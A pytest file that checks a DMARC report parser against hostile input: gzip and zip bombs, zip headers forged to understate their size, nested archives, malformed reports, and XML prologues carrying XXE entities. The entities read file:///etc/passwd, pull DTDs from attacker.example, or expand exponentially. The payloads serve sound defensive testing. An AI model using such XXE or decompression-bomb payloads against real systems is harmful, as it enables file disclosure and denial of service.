"""DMARC report input played by an attacker, without a database: bombs, nested archives, entities, bad shapes."""

from __future__ import annotations

import gzip
import io
import socket
import tracemalloc
import zipfile
from typing import Any

import pytest

from tests.producers.dmarc_helpers import (
    GOOGLE_EMAIL,
    GOOGLE_ZIP,
    MICROSOFT_EMAIL,
    MICROSOFT_GZIP,
    RFC_EXAMPLE,
    SPOOFER,
    as_email,
    load,
    replaced,
    zeros_gzip,
    zeros_zip,
    zipped,
)
from worker.producers.dmarc import Limits, ReportRefused, parse_report

SMALL = Limits(input_bytes=1 << 20, xml_bytes=1 << 20)


def rfc() -> str:
    return load(RFC_EXAMPLE).decode()


def refused(data: bytes, limits: Limits = SMALL) -> str:
    with pytest.raises(ReportRefused) as caught:
        parse_report(data, limits)
    return str(caught.value)


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Any name lookup or connection fails the test: parsing must stay offline."""
    tried: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        tried.append(args)
        raise OSError("network used while parsing a DMARC report")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    return tried


def test_the_rfc_example_and_googles_and_microsofts_reports_read_offline(no_network: list[Any]) -> None:
    example = parse_report(load(RFC_EXAMPLE))
    assert (example.org_name, example.report_id, example.domain, example.policy) == (
        "acme.com",
        "9391651994964116463",
        "example.com",
        "none",
    )
    (record,) = example.records
    assert (record.source_ip, record.messages, record.dkim_aligned, record.spf_aligned) == (
        "72.150.241.94",
        2,
        False,
        True,
    )
    google_email, google_zip = parse_report(load(GOOGLE_EMAIL)), parse_report(load(GOOGLE_ZIP))
    assert google_email == google_zip
    assert (google_zip.org_name, google_zip.policy, len(google_zip.records), google_zip.messages) == (
        "google.com",
        "quarantine",
        3,
        1495,
    )
    spoofed = next(r for r in google_zip.records if r.source_ip == SPOOFER)
    assert (spoofed.aligned, spoofed.disposition) == (False, "quarantine")
    assert {r.source_ip for r in google_zip.records} >= {"2001:db8::25"}
    microsoft_email, microsoft_gzip = parse_report(load(MICROSOFT_EMAIL)), parse_report(load(MICROSOFT_GZIP))
    assert microsoft_email == microsoft_gzip
    assert (microsoft_gzip.org_name, microsoft_gzip.report_id, microsoft_gzip.messages) == (
        "outlook.com",
        "5a1d4c0e7b3f4e29a8c6d2f1b0e9a7c4",
        646,
    )
    assert microsoft_gzip.records[0].envelope_from == "bounces.example.com"
    assert no_network == []


def test_a_gzip_bomb_is_refused_having_inflated_no_more_than_the_cap() -> None:
    bomb = zeros_gzip(64 << 20)  # 64 MiB of XML in about 64 KiB
    assert len(bomb) < 100_000
    tracemalloc.start()
    try:
        reason = refused(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "gzip inflates past the 1048576-byte cap" in reason
    assert peak < 8 << 20


def test_a_zip_bomb_is_refused_having_inflated_no_more_than_the_cap() -> None:
    bomb = zeros_zip(64 << 20)
    tracemalloc.start()
    try:
        reason = refused(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Its header says how much it holds: refused on that, before anything is inflated.
    assert "past the 1048576-byte cap" in reason
    assert peak < 8 << 20


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_bzip2_or_lzma_zip_bomb_is_refused_before_anything_is_inflated(method: int) -> None:
    # zipfile inflates a bzip2 or LZMA entry whole before the size is looked at: only deflate stops.
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", compression=method) as archive:
        archive.writestr("report.xml", b"\0" * (16 << 20))
    # The headers lie: they say 100 bytes (local header at +22, central directory at +24).
    bomb = bytearray(body.getvalue())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = bomb.index(signature) + offset
        bomb[at : at + 4] = (100).to_bytes(4, "little")
    bomb = bytes(bomb)
    assert len(bomb) < 100_000
    tracemalloc.start()
    try:
        reason = refused(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"zip compression method {method} is refused" in reason
    assert peak < 2 << 20


def test_a_zip_entry_announcing_more_than_the_cap_is_refused_unread() -> None:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.xml", b"\0" * (2 << 20))
    assert "past the 1048576-byte cap" in refused(body.getvalue())


def test_input_over_its_cap_is_refused_before_anything_is_inflated() -> None:
    assert "over the 1048576-byte cap" in refused(b"PK\x03\x04" + b"\0" * (1 << 20))


def test_nested_archives_many_entries_encryption_and_trailing_members_are_refused() -> None:
    xml = load(RFC_EXAMPLE)
    zip_in_zip = zipped(("inner.zip", zipped(("report.xml", xml))))
    gzip_in_zip = zipped(("report.xml", gzip.compress(xml)))
    gzip_in_gzip = gzip.compress(gzip.compress(xml))
    assert "archive inside the zip" in refused(zip_in_zip)
    assert "nested archives" in refused(gzip_in_zip)
    assert "nested archives" in refused(gzip_in_gzip)
    assert "zip of 5 entries" in refused(zipped(*((f"r{i}.xml", xml) for i in range(5))))
    assert "zip holds 2 files" in refused(zipped(("a.xml", xml), ("b.xml", xml)))
    assert "second member" in refused(gzip.compress(xml) + gzip.compress(xml))
    assert "truncated gzip" in refused(gzip.compress(xml)[:-20])
    assert "corrupt zip" in refused(b"PK\x03\x04 not really a zip")


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE feedback SYSTEM "http://attacker.example/dtd">',
        '<!doctype feedback [<!entity a "aaaaaaaaaa"><!entity b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE feedback [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]>',
        '<!DOCTYPE z [<!ATTLIST z a0 CDATA "v" a1 CDATA "v">]>',
    ],
)
def test_dtds_and_entities_are_refused_in_xml_gzip_zip_and_email(prologue: str) -> None:
    xml = replaced(rfc(), ('<?xml version="1.0" encoding="UTF-8" ?>', '<?xml version="1.0"?>' + prologue))
    for data in (xml, gzip.compress(xml), zipped(("r.xml", xml)), as_email(zipped(("r.xml", xml)), "r.zip")):
        assert "DOCTYPE or ENTITY declaration is refused" in refused(data)


def test_a_doctype_in_utf16_is_refused_as_not_utf8() -> None:
    xml = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           + rfc().split("?>", 1)[1]).encode("utf-16")  # fmt: skip
    assert "not UTF-8" in refused(xml)
    assert "not UTF-8" in refused(gzip.compress(xml))


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (("</feedback>", ""), "malformed XML at line"),
        (("<feedback>", "<feedbackx>"), "root element is <feedbackx>"),
        (("<record>", "<record><record>"), "malformed XML"),
        (("<org_name>acme.com", "<org_name>acme\u202ecom"), "org_name holds control characters"),
        (("<begin>1335571200", "<begin>1335657600"), "ends before it begins"),
        (("<begin>1335571200", "<begin>0"), "covers 15458 days"),
        (("<begin>1335571200", "<begin>soon"), "not in seconds since 1970"),
        (("<p>none</p>", "<p>everything</p>"), "is not none, quarantine or reject"),
        (("<source_ip>72.150.241.94", "<source_ip>not-an-address"), "not"),
        (("<count>2</count>", "<count>-2</count>"), "count"),
        (("<report_id>9391651994964116463</report_id>", ""), "report_id"),
    ],
)
def test_a_malformed_report_is_refused_with_a_reason(change: tuple[str, str], reason: str) -> None:
    assert reason in refused(replaced(rfc(), change))


def test_a_root_other_than_feedback_and_a_report_without_records_are_refused() -> None:
    assert "root element is <html>" in refused(b"<html><body>hello</body></html>")
    empty = rfc().split("<record>")[0] + "</feedback>"
    assert "no <record>" in refused(empty.encode())


def test_records_elements_and_depth_past_their_limits_are_refused() -> None:
    text = rfc()
    record = "<record>" + text.split("<record>")[1].split("</record>")[0] + "</record>"
    many = text.replace(record, record * 6)
    assert "more than 5 records" in refused(many.encode(), Limits(records=5))
    deep = text.replace("<human_result></human_result>", "<a>" * 20 + "</a>" * 20)
    assert "nested more than 16 deep" in refused(deep.encode())


def test_a_long_period_is_refused_before_it_could_be_cut_into_a_bucket_a_day() -> None:
    text = rfc().replace("<begin>1335571200", "<begin>1").replace("<end>1335657599", "<end>2000000000")
    assert "days (at most 366)" in refused(text.encode())


def test_an_email_with_no_report_or_two_reports_is_refused() -> None:
    xml = load(RFC_EXAMPLE)
    assert "carries no report attachment" in refused(b"From: a@b.example\r\nSubject: hi\r\n\r\nhello\r\n")
    two = as_email(zipped(("r.xml", xml)), "r.zip").replace(b"Report-ID: 1", b"Report-ID: 2")
    msg = as_email(zipped(("r.xml", xml)), "r.zip")
    boundary = msg.split(b'boundary="')[1].split(b'"')[0]
    part = msg.split(b"--" + boundary)[2]
    doubled = msg.replace(b"--" + boundary + b"--", b"--" + boundary + part + b"--" + boundary + b"--")
    assert two != doubled
    assert "2 report attachments" in refused(doubled)
